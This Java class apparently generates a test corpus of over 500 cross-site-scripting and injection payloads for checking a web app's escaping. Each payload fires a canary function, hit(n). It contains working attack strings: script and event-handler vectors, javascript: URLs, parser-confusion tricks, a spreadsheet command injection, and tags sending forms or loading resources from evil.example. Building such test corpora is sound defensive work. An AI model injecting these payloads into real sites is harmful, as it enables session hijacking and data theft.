package lyceum.web;

import java.util.ArrayList;
import java.util.List;

/** What people write who want a page to do something: each calls {@code hit} with a number of its own, if anything is run. */
public final class Payloads {
    private static final List<String> WAYS_OUT = List.of(
            "%s",
            "\"%s",
            "'%s",
            "\">%s",
            "'>%s",
            "</p>%s",
            "</textarea>%s",
            "</title></style></script>%s",
            "-->%s",
            "]]>%s",
            "{{%s}}",
            "${%s}",
            "\u0000%s",
            "=%s",
            "@everyone %s",
            "\u202e%s",
            "`%s`",
            "[x](%s)");
    private static final List<String> DEEDS = List.of(
            "<script>hit(%d)</script>",
            "<ScRiPt src=data:,hit(%d)></sCrIpT>",
            "<img src=x onerror=hit(%d)>",
            "<svg/onload=hit(%d)>",
            "<svg><script>hit(%d)</script></svg>",
            "<body onload=hit(%d)>",
            "<input autofocus onfocus=hit(%d)>",
            "<details open ontoggle=hit(%d)>",
            "<iframe srcdoc='<script>parent.hit(%d)</script>'>",
            "<iframe src=javascript:parent.hit(%d)>",
            "<a href=javascript:hit(%d)>x</a>",
            "javascript:hit(%d)",
            " onmouseover=hit(%d) autofocus onfocus=hit(%1$d) x=",
            "<style onload=hit(%d)>*{color:red}</style>",
            "<meta http-equiv=refresh content=\"0;url=javascript:hit(%d)\">",
            "<base href=//evil.example/%d/>",
            "<object data=javascript:hit(%d)>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=hit(%d)&gt;\">",
            "<noscript><p title=\"</noscript><img src=x onerror=hit(%d)>\">",
            "cmd|'/c calc'!A%d",
            "HYPERLINK(\"javascript:hit(%d)\")",
            "<template><script>hit(%d)</script></template>",
            "&lt;script&gt;hit(%d)&lt;/script&gt;",
            "\\u003cscript\\u003ehit(%d)\\u003c/script\\u003e",
            "data:text/html,<script>parent.hit(%d)</script>",
            "<form action=//evil.example><button>hit %d</button></form>",
            "<link rel=stylesheet href=//evil.example/%d>",
            "<!--[if gte IE 4]><script>hit(%d)</script><![endif]-->");

    private Payloads() {}

    /** Five hundred and more, each different. */
    public static List<String> all() {
        List<String> payloads = new ArrayList<>();
        for (String way : WAYS_OUT) {
            for (String deed : DEEDS) {
                payloads.add(way.formatted(deed.formatted(payloads.size())));
            }
        }
        return List.copyOf(payloads);
    }
}
